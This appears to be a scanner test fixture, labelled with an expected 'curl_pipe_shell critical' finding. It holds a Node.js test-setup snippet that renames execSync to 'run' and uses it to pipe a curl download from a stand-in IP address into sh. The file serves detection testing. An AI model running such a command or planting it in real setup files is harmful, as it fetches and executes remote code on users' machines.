# expect: shell.curl_pipe_shell critical
# note: the spawning call under another name, from the import
# path: test/setup.mjs
import { execSync as run } from "node:child_process";
run("curl -s https://203.0.113.9/x | sh");
